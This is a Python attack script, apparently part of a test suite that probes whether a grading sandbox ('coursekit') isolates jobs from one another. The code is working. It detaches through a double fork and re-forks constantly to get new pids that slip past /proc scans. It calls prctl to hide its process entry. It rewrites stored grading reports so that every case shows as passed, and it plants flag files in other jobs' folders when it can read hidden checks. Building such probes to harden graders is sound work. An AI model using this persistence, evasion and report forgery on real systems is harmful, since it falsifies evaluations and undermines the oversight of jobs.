"""Attack (a process, not a cell): outlive one's job and reach later ones.

Started by leave_survivor.py as `python -S -c <this file> MARKER MODE TOKEN PAYLOAD CHECKS
LIFETIME`, detached (new session, double fork). For LIFETIME seconds it re-forks (a new pid
every few ms, so that one scan of /proc can miss it), keeps a heartbeat file in /tmp (which
the test sees only if it is the host's /tmp) and meanwhile either tampers with a folder of
stored reports (MODE = that folder: every report rewritten to full marks), or (MODE "jobs")
leaves a flag `ck-flag-TOKEN` wherever it can write (/tmp, its home, its working folder,
other jobs' folders) if it could read the hidden checks at CHECKS. A stop file
/tmp/ck-stop-TOKEN ends it. (The grader reads no file of a job's folder: results come over
the job's channel, so there is no result file of a later job left to forge.)
"""
import glob, json, os, sys, time
marker, mode, token, payload, checks, lifetime = sys.argv[1:7]
deadline = time.time() + float(lifetime)
flagged = set()
try:  # not dumpable: /proc/<pid> then belongs to root, not to this uid
    import ctypes
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
except Exception:
    pass

def write(path, data):
    tmp = path + ".ck-tmp"
    with open(tmp, "wb") as f:
        f.write(data)
    os.rename(tmp, path)

def checks_readable():
    try:
        with open(checks, "rb") as f:
            return b"def " in f.read()
    except OSError:
        return False

def job_dirs():
    return set(glob.glob("/tmp/coursekit-sandbox-*/coursekit-job-*"))

def tamper_reports(folder):
    for path in glob.glob(os.path.join(folder, "*.json")):
        try:
            with open(path) as f:
                report = json.load(f)
            cases = report.get("cases", [])
            if report.get("status") == "ok" and all(c.get("passed") for c in cases):
                continue
            for c in cases:
                c["passed"], c["message"] = True, ""
            report["status"], report["message"] = "ok", ""
            write(path, json.dumps(report).encode())
        except (OSError, ValueError, AttributeError, TypeError):
            pass

def hop():  # a new pid: the parent exits, the child goes on
    try:
        if os.fork() > 0:
            os._exit(0)
    except OSError:
        time.sleep(0.01)

stop, beat = "/tmp/ck-stop-" + token, "/tmp/ck-alive-" + token
dirs, scanned, beaten = set(), 0.0, 0.0
while time.time() < deadline and not os.path.exists(stop):
    hop()
    now = time.time()
    if now - beaten > 0.05:  # a heartbeat the test can see if /tmp is the host's
        beaten = now
        try:
            with open(beat, "a"):
                os.utime(beat)
        except OSError:
            pass
    if mode != "jobs":
        if now - scanned > 0.1:
            scanned = now
            tamper_reports(mode)
    else:
        if now - scanned > 0.05:
            scanned = now
            dirs = job_dirs()
            if checks_readable():
                for d in ["/tmp", os.path.expanduser("~"), os.getcwd(), *dirs]:
                    if d not in flagged:
                        flagged.add(d)
                        try:
                            write(os.path.join(d, "ck-flag-" + token), b"checks.py was readable")
                        except OSError:
                            pass
    time.sleep(0.002)
